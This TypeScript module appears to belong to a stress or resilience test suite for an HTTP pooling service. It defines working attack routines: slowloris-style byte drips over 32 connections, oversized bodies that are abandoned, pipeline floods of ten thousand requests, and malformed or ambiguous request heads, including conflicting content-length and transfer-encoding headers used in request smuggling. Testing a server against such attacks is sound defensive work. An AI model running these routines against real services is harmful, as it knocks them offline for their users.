import type { Socket } from 'node:net';
import { type Attacker, pause } from './attacker.ts';

const LARGE =
  'POST /v1/pool/global/max?datatype=FP32&shape=1,1,10000000 HTTP/1.1\r\nhost: x\r\ncontent-length: 40000000\r\n\r\n';
const STREAM =
  'POST /v1/pool/window/max?stream=true&datatype=FP32&shape=1000,1,1000,1000&kernel_shape=2,2 HTTP/1.1\r\nhost: x\r\ncontent-length: 4000000000\r\n\r\n';
const CONNECTIONS = 32;
const DRIP_MS = 1000;

/** Sends a head, and then a byte a second. */
const drip = ({ open, repeat, signal }: Attacker, head: string): Promise<void> =>
  repeat(CONNECTIONS, async () => {
    const socket = await open();
    socket.write(head);
    while (!signal.aborted && !socket.destroyed) {
      await pause(DRIP_MS, signal);
      socket.write('x');
    }
  });

export const dripHeads = (attacker: Attacker): Promise<void> => drip(attacker, 'GET /livez HTTP/1.1\r\nx: ');
export const dripBody = (attacker: Attacker): Promise<void> => drip(attacker, LARGE);
export const dripStream = (attacker: Attacker): Promise<void> => drip(attacker, STREAM);

/** Sends heads, and either no more, or some of the body and leaves. */
export const leave = ({ open, repeat, signal }: Attacker, when: 'never' | 'soon'): Promise<void> =>
  repeat(CONNECTIONS, async (index) => {
    const socket = await open();
    socket.write(index % 2 === 0 ? LARGE : STREAM);
    if (when === 'never') return closed(socket, signal);
    socket.write(Buffer.alloc(1 + ((index * 37_813) % 500_000)));
    await pause(index * 3, signal);
    socket.resetAndDestroy();
  });

const closed = (socket: Socket, signal: AbortSignal): Promise<void> =>
  new Promise((resolve) => {
    if (socket.destroyed || signal.aborted) resolve();
    socket.once('close', () => resolve());
  });

const PIPELINE = 'GET /livez HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(10_000);

/** Writes ten thousand requests at once, and again when the responses have come or the connection is closed. */
export const floodPipeline = ({ open, repeat, signal }: Attacker): Promise<void> =>
  repeat(4, async () => {
    const socket = await open();
    socket.write(`${PIPELINE}GET /livez HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`);
    await closed(socket, signal);
  });

const HEADS = [
  'GET /livez HTTP/2.0\r\nhost: x',
  'GET /livez HTTP/0.9\r\nhost: x',
  'POST /livez HTTP/1.1\r\nhost: x\r\ntransfer-encoding: gzip, chunked',
  'POST /livez HTTP/1.1\r\nhost: x\r\nexpect: tea',
  'POST /livez HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked',
  'GET /livez HTTP/1.1',
  'GET /%zz HTTP/1.1\r\nhost: x',
  'CONNECT x:80 HTTP/1.1\r\nhost: x',
  'PRI * HTTP/2.0',
  `GET /livez HTTP/1.1\r\nhost: x\r\n${'a: b\r\n'.repeat(3000)}c: d`,
];

/** Heads that others may read in another way, or that are none. */
export const sendAmbiguousHeads = ({ open, repeat, signal }: Attacker): Promise<void> => {
  let next = 0;
  return repeat(8, async () => {
    const socket = await open();
    socket.end(`${HEADS[next++ % HEADS.length]}\r\n\r\n`);
    await closed(socket, signal);
  });
};
